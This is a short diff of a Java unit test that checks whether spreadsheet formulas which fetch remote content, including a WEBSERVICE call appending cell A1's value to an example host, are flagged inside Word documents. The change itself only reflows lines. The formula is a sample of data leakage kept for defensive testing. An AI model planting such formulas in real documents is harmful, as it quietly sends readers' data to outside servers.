@@ -121,11 +121,13 @@ class ActiveEvidenceTests {
 	@Test
 	void aFormulaThatFetchesSomethingIsRefused() throws IOException {
 		String sheet = "<worksheet><sheetData><row><c><f>%s</f></c></row></sheetData></worksheet>";
-		for (String formula : List.of("_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)", "_xlfn.IMAGE(\"http://x\")")) {
+		for (String formula : List.of("_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)",
+				"_xlfn.IMAGE(\"http://x\")")) {
 			assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted(formula)))))
 				.containsExactly("document.outside");
 		}
-		assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted("SUM(A1:A2)"))))).isEmpty();
+		assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted("SUM(A1:A2)")))))
+			.isEmpty();
 	}
 
 	@ParameterizedTest
